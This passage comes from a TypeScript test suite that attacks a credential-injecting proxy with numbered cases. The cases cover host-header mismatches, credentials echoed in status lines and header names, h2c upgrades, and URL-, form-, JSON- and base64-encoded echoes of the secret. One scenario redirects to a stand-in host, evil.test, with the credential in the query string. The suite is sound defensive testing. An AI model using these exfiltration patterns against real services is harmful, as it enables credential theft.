      if (seen.length > before) problems.push('the request reached the upstream')
      return { outcome: '403 host-mismatch; nothing reached the upstream', problems }
    }
  )
  const plainReq = (url: string, host: string): string =>
    `GET ${url} HTTP/1.1\r\nHost: ${host}\r\nProxy-Authorization: ${daemon.proxyAuth}\r\nConnection: close\r\n\r\n`
  attack(
    '26.10',
    'Plain HTTP absolute-form `http://plain.test/` with `Host: plain.test:0080`',
    async () => {
      const before = seen.length
      const r = await rawProxyRequest(
        daemon.port,
        plainReq('http://plain.test/26.10', 'plain.test:0080')
      )
      const problems: string[] = []
      if (r.status !== 403) problems.push(`status ${r.status}, expected 403`)
      if (seen.length > before) problems.push('the request reached the upstream')
      return { outcome: '403 host-mismatch; nothing reached the upstream', problems }
    }
  )
  attack('26.11', 'Plain HTTP with `Host: PLAIN.test` and URL `http://PLAIN.TEST/`', async () => {
    const before = seen.length
    const r = await rawProxyRequest(daemon.port, plainReq('http://PLAIN.TEST/26.11', 'PLAIN.test'))
    const got = seen.slice(before).find((s) => s.path.includes('26.11'))?.headers.host
    const problems: string[] = []
    if (r.status !== 200) problems.push(`status ${r.status}`)
    if (got !== 'plain.test') problems.push(`the upstream saw Host ${JSON.stringify(got)}`)
    return { outcome: 'accepted; the upstream saw the canonical `Host: plain.test`', problems }
  })
  attack(
    '26.12',
    'Plain HTTP URL whose authority only normalises to the host: `http://plain.test:0080/`',
    async () => {
      const before = seen.length
      const r = await rawProxyRequest(
        daemon.port,
        plainReq('http://plain.test:0080/26.12', 'plain.test')
      )
      const problems: string[] = []
      if (r.status !== 403) problems.push(`status ${r.status}, expected 403`)
      if (seen.length > before) problems.push('the request reached the upstream')
      return { outcome: '403 host-mismatch; nothing reached the upstream', problems }
    }
  )
})

// ---------------------------------------------------------------------------------------
// Class 37: secrets in the status line and header names
// ---------------------------------------------------------------------------------------

describe('37 status line and header names', () => {
  const bare = (req: UpReq): string => req.auth.replace(/^\S+ /, '')
  scenarios.set('/ws-reason', (req, sock) => {
    sock.write(switching(req).replace('Switching Protocols', `Switching ${bare(req)}`))
    sock.write(frame(0x1, 'END'))
  })
  attack('37.1', 'A 101 whose reason phrase is the credential', async () => {
    const buf = await exchange('api.github.com', wsRequest('/ws-reason', 'api.github.com'), 'END')
    return noLeak(buf, 101, 'the status line is the proxy’s own `101 Switching Protocols`')
  })
  scenarios.set('/ws-name', (req, sock) => {
    sock.write(switching(req, `${bare(req)}: 1\r\n`))
    sock.write(frame(0x1, 'END'))
  })
  attack('37.2', 'A 101 with a header whose NAME is the credential (case kept)', async () => {
    const buf = await exchange('api.github.com', wsRequest('/ws-name', 'api.github.com'), 'END')
    return noLeak(buf, 101, 'the header was dropped')
  })
  scenarios.set('/name-echo', (req, sock) =>
    answer(sock, '200 OK', [`X-${req.auth.replace(/^Key /, '')}: 1`], 'ok')
  )
  attack(
    '37.3',
    'A normal response with a header whose name holds a (lower-case) custom credential',
    async () => {
      const buf = await exchange('other.test', request('/name-echo', 'other.test'))
      return noLeak(buf, 200, 'the header was dropped')
    }
  )
  scenarios.set('/decline-reason', (req, sock) =>
    sock.end(`HTTP/1.1 403 ${bare(req)}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`)
  )
  attack('37.4', 'A declined upgrade (403) whose reason phrase is the credential', async () => {
    const buf = await exchange('api.github.com', wsRequest('/decline-reason', 'api.github.com'))
    return noLeak(buf, 403, 'the reason phrase is Node’s own')
  })
})

// ---------------------------------------------------------------------------------------
// Class 38: non-WebSocket upgrades
// ---------------------------------------------------------------------------------------

describe('38 non-WebSocket upgrades', () => {
  scenarios.set('/h2c', (req, sock) => {
    sock.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n`)
    sock.write(`opaque ${req.auth} END`)
  })
  attack(
    '38.1',
    'A request with `Upgrade: h2c` the upstream answers 101 and follows with opaque bytes echoing the credential',
    async () => {
      const before = seen.length
      const buf = await exchange(
        'api.github.com',
        `GET /h2c HTTP/1.1\r\nHost: api.github.com\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n`
      )
      const r = noLeak(buf, 403, '403 before the upstream was contacted: only WebSocket is relayed')
      if (seen.length > before) r.problems.push('the upgrade reached the upstream')
      return r
    }
  )
  scenarios.set('/ws-other', (req, sock) => {
    sock.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: not-websocket\r\nConnection: Upgrade\r\n\r\n`
    )
    sock.write(`opaque ${req.auth} END`)
  })
  attack(
    '38.2',
    'A WebSocket request the upstream answers 101 with another protocol (`Upgrade: not-websocket`), then raw bytes with the credential',
    async () => {
      const buf = await exchange('api.github.com', wsRequest('/ws-other', 'api.github.com'), 'END')
      const r = noLeak(buf, 502, 'refused with 502; no byte after the 101 was relayed')
      if (buf.includes('opaque')) r.problems.push('opaque bytes were relayed')
      return r
    }
  )
})

// ---------------------------------------------------------------------------------------
// Class 39: encoded echoes of the injected value
// ---------------------------------------------------------------------------------------

describe('39 encoded echoes of the injected value', () => {
  scenarios.set('/enc-url', (req, sock) =>
    answer(
      sock,
      '302 Found',
      [`Location: https://evil.test/?a=${encodeURIComponent(req.auth)}`],
      ''
    )
  )
  attack(
    '39.1',
    'On `github.com`, a redirect whose `Location` holds the URL-encoded `Basic` value (`Basic%20…%3D%3D`)',
    async () => {
      const buf = await exchange('github.com', request('/enc-url', 'github.com'))
      return noLeak(buf, 302, 'the URL-encoded form is a known secret and was replaced')
    }
  )
  scenarios.set('/enc-form', (req, sock) =>
    answer(sock, '200 OK', [], `a=${encodeURIComponent(req.auth).replace(/%20/g, '+')}`)
  )
  attack('39.2', 'A form-encoded echo of the `Basic` value (`Basic+…`)', async () => {
    const buf = await exchange('github.com', request('/enc-form', 'github.com'))
    return noLeak(buf, 200, 'the form-encoded form was replaced')
  })
  scenarios.set('/enc-json', (req, sock) =>
    answer(
      sock,
      '200 OK',
      ['Content-Type: application/json'],
      `{"key":"${(req.headers['x-secret-key'] ?? '').replace(/\//g, '\\/')}"}`
    )
  )
  attack(
    '39.3',
    'A JSON echo that escapes `/` as `\\/` (PHP `json_encode`) of a custom key shaped like an AWS secret key (`…/…+…`)',
    async () => {
      const buf = await exchange('other.test', request('/enc-json', 'other.test'))
      return noLeak(buf, 200, 'the escaped form was replaced')
    }
  )
  scenarios.set('/enc-lower', (req, sock) =>
    answer(
      sock,
      '200 OK',
      [],
      `a=${encodeURIComponent(req.auth).replace(/%[0-9A-F]{2}/g, (m) => m.toLowerCase())}`
    )
  )
  attack('39.4', 'A URL-encoded echo with lower-case hex escapes (`Basic%20…%3d%3d`)', async () => {
    const buf = await exchange('github.com', request('/enc-lower', 'github.com'))
    return noLeak(buf, 200, 'the lower-case escape form was replaced')
  })
  scenarios.set('/enc-unpadded', (req, sock) =>
    answer(sock, '200 OK', [], `seen=${req.auth.replace(/^Basic /, '').replace(/=+$/, '')}.`)
  )
  attack(
    '39.5',
    'An echo of the `Basic` value’s base64 with its `=` padding stripped (as base64url and JWT-style encoders write it)',
    async () => {
      const buf = await exchange('github.com', request('/enc-unpadded', 'github.com'))
      return noLeak(buf, 200, 'the unpadded base64 is a known secret form and was replaced')
    }
  )
})
